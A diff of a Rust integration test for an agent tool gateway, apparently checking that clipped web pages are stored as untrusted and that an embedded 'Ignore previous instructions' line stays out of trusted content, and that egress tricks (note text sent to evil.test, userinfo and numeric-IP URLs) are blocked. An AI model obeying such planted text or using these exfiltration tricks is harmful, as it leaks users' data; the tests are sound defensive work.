@@ -3,12 +3,15 @@
 
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
+mod common;
+
 use std::io::{BufRead, BufReader, Write};
 use std::net::TcpListener;
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
+use common::{empty_store, on_both_stores, store_i64};
 use serde_json::json;
 use toolgate_core::trace::MemoryTrace;
 use toolgate_core::{CallRequest, Dispatcher, ErrorCode, Principal, Registry};
@@ -87,8 +90,7 @@ struct World {
 }
 
 fn world() -> World {
-    let dir = tempfile::tempdir().unwrap();
-    let store = NotesStore::init(&dir.path().join("notes.sqlite")).unwrap();
+    let (dir, store) = empty_store();
     let server = PageServer::start();
     let trace = Arc::new(MemoryTrace::default());
     let config = EgressConfig {
@@ -128,117 +130,117 @@ fn world() -> World {
 }
 
 fn clips(store: &NotesStore) -> i64 {
-    store
-        .with_conn(|c| {
-            c.query_row("SELECT count(*) FROM notes WHERE kind = 'clip'", [], |r| {
-                r.get(0)
-            })
-            .unwrap()
-        })
-        .unwrap()
+    store_i64(store, "SELECT count(*) FROM notes WHERE kind = 'clip'")
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn allowlisted_page_is_clipped_untrusted_and_its_text_stays_out_of_trusted_content() {
-    let w = world();
-    let url = format!("http://recipes.test:{}/risotto", w.server.port);
-    let out = w.dispatcher.call(clip_request(&url)).await;
-    let obs = out.observation().expect("clipped");
-    let content = obs.content.to_string();
-    assert!(
-        !content.contains("Ignore previous instructions"),
-        "{content}"
-    );
-    assert!(!content.contains("Toast the rice"));
-    let untrusted = &obs.untrusted[0];
-    assert_eq!(untrusted.source, url);
-    assert!(
-        untrusted.text.starts_with("Lemon risotto\n\n"),
-        "{}",
-        untrusted.text
-    );
-    assert!(untrusted.text.contains("Ignore previous instructions"));
-    assert!(!untrusted.text.contains("track()"), "scripts are dropped");
-    assert!(out.model_text().contains("untrusted_note"));
+    on_both_stores(|| async {
+        let w = world();
+        let url = format!("http://recipes.test:{}/risotto", w.server.port);
+        let out = w.dispatcher.call(clip_request(&url)).await;
+        let obs = out.observation().expect("clipped");
+        let content = obs.content.to_string();
+        assert!(
+            !content.contains("Ignore previous instructions"),
+            "{content}"
+        );
+        assert!(!content.contains("Toast the rice"));
+        let untrusted = &obs.untrusted[0];
+        assert_eq!(untrusted.source, url);
+        assert!(
+            untrusted.text.starts_with("Lemon risotto\n\n"),
+            "{}",
+            untrusted.text
+        );
+        assert!(untrusted.text.contains("Ignore previous instructions"));
+        assert!(!untrusted.text.contains("track()"), "scripts are dropped");
+        assert!(out.model_text().contains("untrusted_note"));
 
-    let (untrusted_flag, source, body): (i64, String, String) = w
-        .store
-        .with_conn(|c| {
-            c.query_row(
-                "SELECT untrusted, source_url, body FROM notes WHERE kind = 'clip'",
-                [],
-                |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
-            )
-            .unwrap()
-        })
-        .unwrap();
-    assert_eq!((untrusted_flag, source.as_str()), (1, url.as_str()));
-    assert!(
-        body.contains("Toast the rice") && !body.contains("Home"),
-        "{body}"
-    );
-    let egress = w.trace.of_kind("egress");
-    assert_eq!(egress.len(), 1);
-    assert_eq!(egress[0]["decision"], "allowed");
+        let (untrusted_flag, source, body): (i64, String, String) = w
+            .store
+            .with_sql(|c| {
+                let row = c
+                    .query_opt(
+                        "SELECT untrusted, source_url, body FROM notes WHERE kind = 'clip'",
+                        &[],
+                    )?
+                    .unwrap();
+                Ok((row.i64(0)?, row.text(1)?, row.text(2)?))
+            })
+            .unwrap();
+        assert_eq!((untrusted_flag, source.as_str()), (1, url.as_str()));
+        assert!(
+            body.contains("Toast the rice") && !body.contains("Home"),
+            "{body}"
+        );
+        let egress = w.trace.of_kind("egress");
+        assert_eq!(egress.len(), 1);
+        assert_eq!(egress[0]["decision"], "allowed");
 
-    // The same call again in the same run stores nothing new, fetches nothing, and shows the
-    // same summary (rebuilt from the stored note).
-    let again = w.dispatcher.call(clip_request(&url)).await;
-    assert!(again.record.duplicate);
-    assert_eq!(again.observation().unwrap().untrusted, obs.untrusted);
-    assert_eq!(clips(&w.store), 1);
-    assert_eq!(
-        w.trace.of_kind("egress").len(),
-        1,
-        "the replay fetched again"
-    );
+        // The same call again in the same run stores nothing new, fetches nothing, and shows the
+        // same summary (rebuilt from the stored note).
+        let again = w.dispatcher.call(clip_request(&url)).await;
+        assert!(again.record.duplicate);
+        assert_eq!(again.observation().unwrap().untrusted, obs.untrusted);
+        assert_eq!(clips(&w.store), 1);
+        assert_eq!(
+            w.trace.of_kind("egress").len(),
+            1,
+            "the replay fetched again"
+        );
+    })
+    .await;
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn blocked_urls_store_nothing_and_are_recorded() {
-    let w = world();
-    let port = w.server.port;
-    let cases = [
-        ("unlisted host", format!("http://evil.test:{port}/")),
-        (
-            "note text in the query to an unlisted host",
-            format!("http://evil.test:{port}/?d=budget%20is%20%2448%2C000"),
-        ),
-        (
-            "userinfo trick",
-            format!("http://recipes.test@evil.test:{port}/"),
-        ),
-        ("unlisted port", "http://recipes.test:9/".to_string()),
-        ("numeric ip spelling", format!("http://2130706433:{port}/")),
-    ];
-    for (name, url) in &cases {
-        let out = w
-            .dispatcher
-            .call(CallRequest::new(
-                Principal::local("me", &[]),
-                "run-1",
-                "web_clip",
-                json!({"url": url}),
-            ))
-            .await;
-        let err = out.error().cloned().expect(name);
-        assert_eq!(err.code, ErrorCode::Forbidden, "{name}: {err:?}");
+    on_both_stores(|| async {
+        let w = world();
+        let port = w.server.port;
+        let cases = [
+            ("unlisted host", format!("http://evil.test:{port}/")),
+            (
+                "note text in the query to an unlisted host",
+                format!("http://evil.test:{port}/?d=budget%20is%20%2448%2C000"),
+            ),
+            (
+                "userinfo trick",
+                format!("http://recipes.test@evil.test:{port}/"),
+            ),
+            ("unlisted port", "http://recipes.test:9/".to_string()),
+            ("numeric ip spelling", format!("http://2130706433:{port}/")),
+        ];
+        for (name, url) in &cases {
+            let out = w
+                .dispatcher
+                .call(CallRequest::new(
+                    Principal::local("me", &[]),
+                    "run-1",
+                    "web_clip",
+                    json!({"url": url}),
+                ))
+                .await;
+            let err = out.error().cloned().expect(name);
+            assert_eq!(err.code, ErrorCode::Forbidden, "{name}: {err:?}");
+            assert!(
+                !err.message.contains("budget"),
+                "{name}: the blocked data is not echoed"
+            );
+        }
+        assert_eq!(clips(&w.store), 0);
+        let blocked = w.trace.of_kind("egress");
+        assert_eq!(blocked.len(), cases.len());
         assert!(
-            !err.message.contains("budget"),
-            "{name}: the blocked data is not echoed"
+            blocked.iter().all(|e| e["decision"] == "blocked"),
+            "{blocked:#?}"
         );
-    }
-    assert_eq!(clips(&w.store), 0);
-    let blocked = w.trace.of_kind("egress");
-    assert_eq!(blocked.len(), cases.len());
-    assert!(
-        blocked.iter().all(|e| e["decision"] == "blocked"),
-        "{blocked:#?}"
-    );
-    assert!(
-        w.server.requests.lock().unwrap().is_empty(),
-        "nothing reached the server"
-    );
+        assert!(
+            w.server.requests.lock().unwrap().is_empty(),
+            "nothing reached the server"
+        );
+    })
+    .await;
 }
 
 /// A `web_clip` of `url` in one run, so that a retry is the same call.
